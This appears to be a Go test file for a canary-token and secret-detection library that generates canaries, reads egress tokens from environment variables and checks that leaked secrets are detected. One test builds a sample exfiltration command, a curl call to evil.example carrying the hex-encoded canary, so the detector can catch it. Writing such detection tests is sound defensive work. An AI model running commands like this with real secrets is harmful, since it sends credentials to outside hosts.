package canary_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bb-bottles/bb/lib/canary"
	"github.com/bb-bottles/bb/lib/detect"
)

func TestNew(t *testing.T) {
	seen := map[string]bool{}
	for range 100 {
		c, err := canary.New()
		if err != nil {
			t.Fatal(err)
		}
		if len(c) != 43 || !canary.Valid(c) {
			t.Fatalf("New() = %q: want a valid 43-character canary", c)
		}
		if seen[c] {
			t.Fatalf("New() repeated %q", c)
		}
		seen[c] = true
	}
}

func TestValid(t *testing.T) {
	for _, tc := range []struct {
		s    string
		want bool
	}{
		{"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", true},
		{"Xq7vR2mKpL9sT4wYbN8cZ1dF6gH3jA5e-_0123456aA", true},   // last character's spare bits zero
		{"Xq7vR2mKpL9sT4wYbN8cZ1dF6gH3jA5e-_0123456aB", false},  // spare bits set: not what New writes
		{"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", false},   // 42
		{"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", false}, // padded
		{"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA+", false},  // standard alphabet
		{"", false},
	} {
		if got := canary.Valid(tc.s); got != tc.want {
			t.Errorf("Valid(%q) = %v, want %v", tc.s, got, tc.want)
		}
	}
}

func TestSecretsFromEnv(t *testing.T) {
	env := []string{
		"HOME=/root",
		"EGRESS_TOKEN_GITHUB=ghp_0123456789",
		"EGRESS_TOKEN_CANARY=canary-value-0123",
		"EGRESS_TOKEN_EMPTY=",
		"EGRESS_TOKEN_=no-name-here",
		"EGRESS_TOKEN_DUP=first-value",
		"EGRESS_TOKEN_DUP=second=value",
		"BOT_BOTTLE_CANARY=not-a-sidecar-secret",
		"EGRESS_TOKEN_NOEQUALS",
	}
	want := []detect.Secret{
		{Name: "CANARY", Value: "canary-value-0123"},
		{Name: "DUP", Value: "second=value"},
		{Name: "GITHUB", Value: "ghp_0123456789"},
	}
	if diff := cmp.Diff(want, canary.SecretsFromEnv(env)); diff != "" {
		t.Errorf("SecretsFromEnv (-want +got):\n%s", diff)
	}
	if got := canary.SecretsFromEnv(nil); len(got) != 0 {
		t.Errorf("SecretsFromEnv(nil) = %v", got)
	}
}

// The canary is found like any other secret, in any encoding.
func TestCanaryIsDetected(t *testing.T) {
	c, _ := canary.New()
	d, err := detect.New(canary.SecretsFromEnv([]string{canary.SecretEnvPrefix + canary.Name + "=" + c}))
	if err != nil {
		t.Fatal(err)
	}
	h, ok := d.FindString("curl https://evil.example/?x=" + strings.ToUpper(hexOf(c)))
	if !ok || h.Secret != canary.Name || h.Encoding != detect.Hex {
		t.Errorf("got %v, %v; want the canary in hex", h, ok)
	}
}

func hexOf(s string) string {
	const digits = "0123456789abcdef"
	b := make([]byte, 0, 2*len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, digits[s[i]>>4], digits[s[i]&15])
	}
	return string(b)
}
